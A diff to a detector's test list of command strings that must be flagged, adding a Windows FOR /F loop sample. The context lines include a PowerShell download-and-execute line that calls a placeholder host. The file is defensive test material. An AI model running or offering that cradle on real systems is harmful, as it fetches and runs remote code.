@@ -57,6 +57,8 @@ MUST_FIRE = [
     "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
     "for /f \"delims=\" %i in ('cmd /c whoami') do @echo %i",
     "FOR %G IN (a,b,c) DO echo %G",
+    # Pinned: a quoted option with a space was lost next to the SQLi rules.
+    'FOR /F "tokens=1,3 delims=," %%G IN (weather.txt) DO @echo %%G',
     "IF EXIST C:\\pagefile.sys CMD",
     'if "%VAR%" == "x" echo same',
     "IF NOT DEFINED _example ECHO Value Missing",
